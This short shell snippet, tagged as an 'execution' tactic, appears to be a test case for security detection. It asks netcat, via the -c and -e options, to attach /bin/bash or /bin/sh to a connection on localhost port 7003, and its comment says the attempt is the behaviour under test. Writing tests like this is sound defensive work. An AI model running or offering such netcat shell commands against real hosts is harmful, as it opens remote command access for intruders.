# tactic: execution
# ask netcat to run a shell on its connection (this netcat refuses the option: the request is the behaviour)
nc -c /bin/bash 127.0.0.1 7003 2>/dev/null; netcat -e /bin/sh localhost 7003 2>/dev/null; true
